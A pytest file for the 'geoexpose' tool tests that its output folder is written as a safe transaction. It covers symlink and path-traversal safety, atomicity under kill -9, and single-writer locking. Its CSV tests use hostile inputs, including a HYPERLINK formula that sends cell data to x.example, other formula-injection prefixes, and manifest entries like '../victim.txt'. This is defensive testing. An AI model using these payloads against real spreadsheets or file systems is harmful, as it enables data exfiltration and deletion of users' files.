"""The output folder as a transaction: a manifest, no deletion through links, no mixed runs.

Hostile cases of issue 17: ``--overwrite`` must remove only the files geoexpose wrote
(never a website behind a ``sites`` link, never a file someone changed), a killed or
concurrent writer must leave a folder that is complete or visibly incomplete, and CSV
cells must not run as spreadsheet formulas.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import shapely
from conftest import make_sites, make_track

import geoexpose as gx
from geoexpose import _atomic, maps, outputs
from geoexpose.scan import check_scan_outputs
from tests._outputs_writer import fleet as make_fleet

WRITER = Path(__file__).with_name("_outputs_writer.py")
MANIFEST = ".geoexpose-manifest.json"
N_EXPOSED = 6  # s1 to s6 of the fleet: a passes s1, s2; b s2 to s5; c hovers over s6


@pytest.fixture(scope="module")
def fleet():
    return make_fleet()


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def visible_files(folder: Path) -> set[str]:
    """Every file under ``folder`` that is not hidden, as ``/``-separated relative paths."""
    return {
        p.relative_to(folder).as_posix()
        for p in folder.rglob("*")
        if p.is_file() and not any(part.startswith(".") for part in p.relative_to(folder).parts)
    }


def assert_complete(folder: Path, n_maps: int) -> None:
    """One whole run: the manifest lists exactly the files there, each as it is."""
    info = json.loads((folder / MANIFEST).read_text())
    assert info["complete"] is True
    files = info["files"]
    assert set(files) == visible_files(folder)
    for rel, [entry] in files.items():
        assert entry["sha256"] == sha256(folder / rel), rel
        assert entry["size"] == (folder / rel).stat().st_size
    summary = json.loads((folder / "summary.json").read_text())
    assert summary["site_maps"]["written"] == n_maps
    assert len(list((folder / "sites").glob("*.html"))) == n_maps
    assert sorted(summary["site_maps"]["maps"].values()) == sorted(
        f for f in files if f.startswith("sites/")
    )
    assert not list(folder.glob(".geoexpose-stage-*")) and not (folder / ".geoexpose.lock").exists()


# -- 2. only the files geoexpose wrote are removed, never through a link -------------------


def test_overwrite_removes_only_its_own_unchanged_files(tmp_path, fleet):
    out = tmp_path / "out"
    fleet.write(out, site_maps="all")
    assert_complete(out, N_EXPOSED)
    mine = out / "sites" / "index.html"  # a file of the user's, named like a site map
    mine.write_text("<p>my page</p>")
    (out / "notes.txt").write_text("mine")
    changed = sorted((out / "sites").glob("s*.html"))[-1]
    changed.write_text(changed.read_text() + "<!-- edited -->")

    fleet.write(out, overwrite=True, site_maps=1)

    assert mine.read_text() == "<p>my page</p>" and (out / "notes.txt").read_text() == "mine"
    assert changed.exists()  # changed since geoexpose wrote it: not geoexpose's any more
    maps_left = {p.name for p in (out / "sites").iterdir()}
    summary = json.loads((out / "summary.json").read_text())
    kept = Path(next(iter(summary["site_maps"]["maps"].values()))).name
    assert maps_left == {kept, "index.html", changed.name}
    manifest = json.loads((out / MANIFEST).read_text())["files"]
    assert "sites/index.html" not in manifest and "notes.txt" not in manifest


def test_a_linked_sites_folder_is_refused_and_the_website_kept(tmp_path, fleet):
    website = tmp_path / "website"
    website.mkdir()
    (website / "index.html").write_text("home")
    (website / "s1.html").write_text("a page named like a site map")
    out = tmp_path / "out"
    fleet.write(out, site_maps="none")
    (out / "sites").symlink_to(website, target_is_directory=True)
    before = {p.name: p.read_bytes() for p in website.iterdir()}
    old_summary = (out / "summary.json").read_bytes()

    with pytest.raises(gx.OutputExistsError, match="symbolic link"):
        fleet.write(out, overwrite=True, site_maps="all")
    with pytest.raises(gx.OutputExistsError, match="symbolic link"):
        maps.rebuild_maps(out, overwrite=True, site_maps="all")

    assert {p.name: p.read_bytes() for p in website.iterdir()} == before
    assert (out / "summary.json").read_bytes() == old_summary
    assert (out / "sites").is_symlink()


def test_a_linked_output_file_is_replaced_not_written_through(tmp_path, fleet):
    target = tmp_path / "index.html"
    target.write_text("home")
    out = tmp_path / "out"
    out.mkdir()
    (out / "map.html").symlink_to(target)
    with pytest.raises(gx.OutputExistsError, match="exists"):  # even a link is an output
        fleet.write(out, site_maps=1)
    fleet.write(out, overwrite=True, site_maps=1)
    assert target.read_text() == "home"
    assert not (out / "map.html").is_symlink()
    assert_complete(out, 1)


def test_leftovers_of_a_killed_run_go_but_not_through_links(tmp_path, fleet):
    out = tmp_path / "out"
    out.mkdir()
    keep = tmp_path / "keep"
    keep.mkdir()
    (keep / "data.bin").write_bytes(b"x")
    (out / ".geoexpose-stage-ab12cd34").mkdir()
    (out / ".geoexpose-stage-ab12cd34" / "map.html").write_text("half")
    (out / ".geoexpose-stage-link").symlink_to(keep, target_is_directory=True)
    (out / ".exposure.k2j_9x0a.gpkg").write_bytes(b"old temp")
    (out / ".exposure.notes.gpkg").write_bytes(b"the user's")  # not a temporary name
    fleet.write(out, site_maps=2)
    names = {p.name for p in out.iterdir()}
    assert ".geoexpose-stage-ab12cd34" not in names and ".exposure.k2j_9x0a.gpkg" not in names
    assert (out / ".exposure.notes.gpkg").read_bytes() == b"the user's"
    assert (keep / "data.bin").read_bytes() == b"x"
    (out / ".geoexpose-stage-link").unlink()
    assert_complete(out, 2)


def test_a_hostile_manifest_cannot_reach_outside_the_folder(tmp_path, fleet):
    """A shared folder's manifest that lists a file outside it, with its true hash."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = fleet.write(tmp_path / "out", site_maps=1)
    info = json.loads((out / MANIFEST).read_text())
    entry = [{"size": victim.stat().st_size, "sha256": sha256(victim)}]
    for rel in ("../victim.txt", str(victim), "sites/../../victim.txt"):
        info["files"][rel] = entry
    (out / MANIFEST).write_text(json.dumps(info))
    fleet.write(out, overwrite=True, site_maps=1)
    assert victim.read_text() == "precious"
    assert_complete(out, 1)


def test_rebuild_maps_keeps_the_manifest_true(tmp_path, fleet):
    out = fleet.write(tmp_path / "out", site_maps="all")
    gpkg = sha256(out / "exposure.gpkg")
    written = maps.rebuild_maps(out, overwrite=True, site_maps=2)
    assert len(written) == 3 and all(p.parent in (out, out / "sites") for p in written)
    assert sha256(out / "exposure.gpkg") == gpkg
    assert_complete(out, 2)
    maps.rebuild_maps(out, site="s6", overwrite=True)
    assert (out / "sites" / "s6.html").is_file()
    assert json.loads((out / MANIFEST).read_text())["files"]["sites/s6.html"][0]["sha256"] == (
        sha256(out / "sites" / "s6.html")
    )


def test_a_parquet_folder_without_a_manifest_is_refused(tmp_path):
    out = tmp_path / "out"
    (out / "parquet" / "sites").mkdir(parents=True)
    (out / "parquet" / "sites" / "part-00003.parquet").write_bytes(b"someone else's")
    with pytest.raises(gx.OutputExistsError, match=r"part-00003\.parquet"):
        check_scan_outputs(out, overwrite=True, parquet=True)
    check_scan_outputs(out, overwrite=True, parquet=False)


# -- 9. complete or visibly incomplete; one writer at a time ------------------------------


def _start(out: Path, site_maps: str, *args: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, str(WRITER), str(out), site_maps, *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def _kill_when_paused(proc: subprocess.Popen[str]) -> None:
    assert proc.stdout is not None
    line = proc.stdout.readline()
    assert line.strip() == "PAUSED", proc.stderr.read() if proc.stderr else line
    os.kill(proc.pid, signal.SIGKILL)
    proc.communicate(timeout=30)  # reaps it and closes the pipes
    assert proc.returncode == -signal.SIGKILL


def test_kill_9_while_staging_leaves_the_old_run_whole(tmp_path, fleet):
    out = tmp_path / "out"
    fleet.write(out, site_maps="all")
    before = {p: sha256(out / p) for p in visible_files(out)}
    _kill_when_paused(_start(out, "1", "--overwrite", "--pause", "stage"))
    assert {p: sha256(out / p) for p in visible_files(out)} == before
    assert list(out.glob(".geoexpose-stage-*"))  # the killed run's staging folder
    fleet.write(out, overwrite=True, site_maps=1)  # the next run clears it
    assert_complete(out, 1)


def test_kill_9_while_moving_in_leaves_a_visibly_incomplete_folder(tmp_path, fleet):
    out = tmp_path / "out"
    fleet.write(out, site_maps="all")
    _kill_when_paused(_start(out, "1", "--overwrite", "--pause", "commit"))
    assert not (out / "summary.json").exists()  # the mark of a folder that did not finish
    assert json.loads((out / MANIFEST).read_text())["complete"] is False
    with pytest.raises(gx.OutputExistsError):  # still refused without --overwrite
        fleet.write(out, site_maps=2)
    fleet.write(out, overwrite=True, site_maps=2)  # removes the files of both runs
    assert_complete(out, 2)


def test_a_second_writer_is_refused_while_one_writes(tmp_path, fleet):
    out = tmp_path / "out"
    first = _start(out, "all", "--pause", "stage")
    assert first.stdout is not None and first.stdout.readline().strip() == "PAUSED"
    try:
        with pytest.raises(gx.OutputExistsError, match=r"another geoexpose \(pid \d+\)"):
            fleet.write(out, site_maps=1)
        with pytest.raises(gx.OutputExistsError, match="another geoexpose"):
            fleet.write(out, overwrite=True, site_maps=1)
    finally:
        os.kill(first.pid, signal.SIGKILL)
        first.communicate(timeout=30)
    fleet.write(out, site_maps=1)  # the kernel let go of the dead writer's lock
    assert_complete(out, 1)


def test_two_writers_into_one_new_folder_one_wins(tmp_path):
    out = tmp_path / "out"
    procs = [_start(out, "all"), _start(out, "1")]
    results = [p.communicate(timeout=300) for p in procs]
    codes = [p.returncode for p in procs]
    assert sorted(codes) == [0, 1], results
    loser = results[codes.index(1)][1]
    assert "OutputExistsError" in loser and ("another geoexpose" in loser or "exists" in loser)
    assert_complete(out, N_EXPOSED if codes[0] == 0 else 1)


def test_a_failed_write_leaves_nothing(tmp_path, fleet, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(outputs.folder, "summary", broken)  # after the gpkg, CSVs and maps
    out = tmp_path / "new"
    with pytest.raises(RuntimeError):
        fleet.write(out)
    assert list(out.iterdir()) == []


def test_a_standoff_beyond_the_earth_writes_nothing(tmp_path):
    """Sites made by hand skip read_sites; 2e7 m must be refused before any output."""
    sites = make_sites([shapely.Point(6.005, 45.0)], standoff_m=2e7)
    fixes = make_track(np.linspace(6.0, 6.01, 50), np.full(50, 45.0))
    with pytest.raises(gx.InputError, match="standoff_m"):
        gx.expose(sites, fixes).write(tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_the_lock_and_stage_names_are_hidden_and_documented():
    assert _atomic.LOCK_FILE.startswith(".") and _atomic.STAGE_PREFIX.startswith(".")
    assert _atomic.MANIFEST_FILE == MANIFEST


# -- 8. no spreadsheet formulas in the CSVs -----------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
    n = len(HOSTILE)
    lon = 6.0 + 0.01 * np.arange(n)
    sites = make_sites(shapely.points(lon, np.full(n, 45.0)), standoff_m=50.0)
    sites["name"] = HOSTILE
    sites["site_id"] = [f"{h}#{i}" for i, h in enumerate(HOSTILE)]
    tracks = [
        make_track(np.full(20, x), np.full(20, 45.0), flight=f"-{i}=cmd", t0=f"2026-06-12T0{i}:00Z")
        for i, x in enumerate(lon)
    ]
    out = gx.expose(sites, pd.concat(tracks, ignore_index=True)).write(
        tmp_path / "out", map_html=False
    )
    table = pd.read_csv(out / "site_exposure.csv", dtype=str, keep_default_na=False)
    assert len(table) == n
    assert sorted(table["name"]) == sorted(("'" + h).replace("\r", "\n") for h in HOSTILE)
    assert all(v.startswith("'") for v in table["site_id"])
    pairs = pd.read_csv(out / "flight_site_exposure.csv", dtype=str, keep_default_na=False)
    assert len(pairs) == n and all(v.startswith("'-") for v in pairs["flight_id"])
    numbers = pd.read_csv(out / "site_exposure.csv")
    assert pd.api.types.is_numeric_dtype(numbers["dwell_s"]) and (numbers["dwell_s"] > 0).all()


def test_csv_table_leaves_numbers_and_harmless_text_alone():
    frame = pd.DataFrame(
        {
            "name": ["-x", "a=b", None, "", " =1"],
            "mixed": [-1, "=1", 2.5, np.nan, "b"],
            "dz_m": [-1.25, -0.0, 3.0, np.nan, -7.0],
            "n": [-1, 2, -3, 4, -5],
        }
    )
    got = outputs.csv_table(frame)
    assert got["name"].tolist()[:2] == ["'-x", "a=b"] and got["name"].tolist()[4] == " =1"
    assert pd.isna(got["name"].iloc[2]) and got["name"].iloc[3] == ""
    assert got["mixed"].tolist()[:3] == [-1, "'=1", 2.5] and got["mixed"].iloc[4] == "b"
    assert got["dz_m"].tolist()[:3] == [-1.25, -0.0, 3.0] and got["n"].tolist() == [
        -1,
        2,
        -3,
        4,
        -5,
    ]
    assert ",-1.25,-1\n" in got.to_csv(index=False, lineterminator="\n")


def test_the_audit_folder_is_one_transaction_without_live_formulas(tmp_path):
    demo = gx.make_demo_inputs(tmp_path / "demo")
    sites = gx.read_sites(demo.sites)
    hostile = '=HYPERLINK("http://x.example/","depot")'
    sites["site_id"] = sites["site_id"].replace("brenmoor-depot", hostile)
    fixes = gx.read_tracks(demo.tracks)
    captures = gx.read_captures(demo.sites.parent / "photos")
    result = gx.audit(sites, fixes, captures, authorized="brenmoor-substation")
    out = result.write(tmp_path / "out")
    findings = pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False)
    assert "'" + hostile in set(findings["site_id"]) and hostile not in set(findings["site_id"])
    info = json.loads((out / MANIFEST).read_text())
    assert info["complete"] and set(info["files"]) == visible_files(out)
    assert {"findings.csv", "report.html", "map.html", "exposure.gpkg"} <= set(info["files"])
    with pytest.raises(gx.OutputExistsError):
        result.write(out)
